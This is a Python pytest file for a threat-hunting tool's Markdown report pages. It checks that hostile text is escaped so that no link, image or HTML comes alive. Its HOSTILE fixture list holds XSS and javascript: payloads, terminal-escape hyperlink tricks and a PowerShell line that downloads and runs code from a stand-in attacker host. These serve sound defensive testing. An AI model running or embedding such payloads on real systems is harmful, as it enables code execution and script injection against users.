"""Pages for operators: all that a hunt is, and nothing that an attacker wrote comes alive."""

import re
from dataclasses import replace
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from huntonce.models.hunt import Check, HuntRun, HuntState
from huntonce.models.hypothesis import Verdict
from huntonce.models.proposal import Proposal
from huntonce.models.report.markdown import Linked, escape, hunt_page, proposals_page
from tests.unit.report.report_examples import NOW, case, detection, finding, gap, hypothesis, power

ALIVE = {"link_open", "image", "html_inline", "html_block"}
HOSTILE = [
    "[click](http://evil.example/x)",
    "![x](http://evil.example/p.png)",
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "powershell -c iwr http://evil.example/a|iex",
    "www.evil.example <http://evil.example> amy@evil.example",
    "```\n# out\n[a](http://evil.example)\n```",
    "a | b |\n| --- | --- |\n| [c](javascript:alert(1)) |",
    "\u202egnp.exe\u200b\x1b]8;;http://evil.example\x07",
    "&lt;a href=x&gt; &#60;b&#62;",
]
PLAIN_LINK = re.compile(r"https?://|www\.|[^\\]@|ftp://", re.IGNORECASE)


def tokens(page: str) -> list[Token]:
    found: list[Token] = []
    for token in MarkdownIt("commonmark", {"html": True}).enable("table").parse(page):
        found += [token, *(token.children or ())]
    return found


def page_of(text: str) -> str:
    claim = hypothesis(text=text)
    found = finding(claim, text, text)
    run = HuntRun(
        id="HUNT-1",
        hypothesis_key=claim.key,
        hypothesis_id="H-1",
        hunt_name="h",
        technique_id="T1053.005",
        siem="lake",
        start=NOW - timedelta(days=1),
        end=NOW,
        started_at=NOW,
        state=HuntState.CONCLUDED,
        verdict=Verdict.INCONCLUSIVE,
        why=text,
        power=power(0.9),
        checks=(Check(name=text, query=f"SELECT '{text}'", events=3, why=text),),
        outcomes=(text,),
    )
    return hunt_page(
        run, claim, [found], [gap(text=text)], [detection(claim, text)], [case(claim, found, text)],
        [waiting(text)],
    )  # fmt: skip


def waiting(text: str) -> Proposal:
    return Proposal(
        id="P-7",
        change="deploy",
        subject="D-1",
        subject_sha256="0" * 64,
        target="lake",
        summary=text,
        evidence="e",
        expires_at=NOW,
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_from_data_comes_alive(text: str) -> None:
    for page in (page_of(text), proposals_page([waiting(text)])):
        alive = [t for t in tokens(page) if t.type in ALIVE]
        assert {t.attrGet("href") for t in alive} <= {"/deployments"}
        prose = "".join(t.content for t in tokens(page) if t.type == "inline")
        assert not PLAIN_LINK.search(prose), "a renderer may link plain addresses"


def test_a_proposal_opens_the_form_with_its_id_in_it() -> None:
    form = "/deployments/deployment/2f0d2c63-6f1b-4a53-9a3e-3d1d7a6f0c01/run"
    (links,) = [
        [t.attrGet("href") for t in tokens(page) if t.type == "link_open"]
        for page in [proposals_page([waiting("deploy D-1")], form)]
    ]

    assert "| [P-7](" in proposals_page([waiting("deploy D-1")], form)
    assert links == [f"{form}?parameters=%7B%22proposal%22%3A%22P-7%22%7D"]


@pytest.mark.parametrize("address", ["//evil.example/x", "javascript:x", "/a b", "/a)b", "x/y", ""])
def test_what_is_no_plain_address_is_no_link(address: str) -> None:
    assert Linked("text", address).markdown == "text"


@given(st.text(alphabet="[]()<>!`|\\*_#~&:/@.-\n ab1", max_size=60))
def test_escaped_text_is_shown_as_it_is(text: str) -> None:
    parsed = tokens(f"x {escape(text)} y")

    assert not ALIVE & {t.type for t in parsed}
    shown = "".join(t.content for t in parsed if t.type in {"text", "text_special"})
    assert shown.split() == f"x {text} y".split()


def test_the_hunts_page_has_all_that_an_operator_asks() -> None:
    page = page_of("plain words")
    headings = [
        tokens_[1].content
        for tokens_ in zip(tokens(page), tokens(page)[1:], strict=False)
        if tokens_[0].type == "heading_open"
    ]

    assert headings[1:] == [
        "Waiting for a person",
        "Findings",
        "Gaps",
        "Detections",
        "Cases",
        "Outcomes",
        "Queries as sent",
    ]
    assert "SELECT 'plain words'" in page
    assert escape(power(0.9).words) in page
    assert "P\\-7" in page


def test_a_ticket_and_a_case_lead_to_the_desk_where_it_has_pages() -> None:
    claim = hypothesis(text="plain")
    found = finding(claim, "plain", "plain")
    a_gap, a_case = (
        replace(gap(text="plain"), id="GAP-1", ticket="SOC-1"),
        case(claim, found, "plain"),
    )
    run = HuntRun(
        hypothesis_key=claim.key, hypothesis_id="H-1", hunt_name="h", technique_id="T1053.005",
        siem="lake", start=NOW, end=NOW, started_at=NOW,
    )  # fmt: skip
    addresses = {a_gap.id: "https://desk.example/browse/SOC-1", a_case.id: ""}

    page = hunt_page(run, claim, [found], [a_gap], (), [a_case], (), addresses)

    links = [t.attrGet("href") for t in tokens(page) if t.type == "link_open"]
    assert links == ["https://desk.example/browse/SOC-1"]


def test_an_empty_list_of_proposals_says_so() -> None:
    assert "Nothing waits" in proposals_page([])
